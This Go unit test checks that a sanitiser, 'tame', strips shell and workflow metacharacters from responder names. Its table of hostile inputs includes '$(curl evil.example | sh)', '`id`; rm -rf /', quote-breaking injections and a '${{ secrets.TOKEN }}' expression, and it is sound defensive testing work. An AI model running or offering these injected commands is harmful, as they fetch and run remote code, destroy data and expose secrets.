package main

import "testing"

// What a relay calls its responders ends up in workflows' scripts.
func TestANameThatIsHandedOverMeansNothingToAShell(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]string{
		"Ana":                             "Ana",
		"Ana María O. de-la_Cruz @ops 2":  "Ana María O. de-la_Cruz @ops 2",
		"$(curl evil.example | sh)":       "__curl evil.example _ sh_",
		"`id`; rm -rf /":                  "_id__ rm -rf _",
		"a\"; exit 0 #":                   "a__ exit 0 _",
		"x' || 'y":                        "x_ __ _y",
		"a & b > c < d * ? ~ ! % ^ = + ,": "a _ b _ c _ d _ _ _ _ _ _ _ _ _",
		"${{ secrets.TOKEN }}":            "___ secrets.TOKEN __",
		"a\nb\r::set-output":              "a_b___set-output",
	} {
		if got := tame(name); got != want {
			t.Errorf("%q became %q, not %q", name, got, want)
		}
	}
}
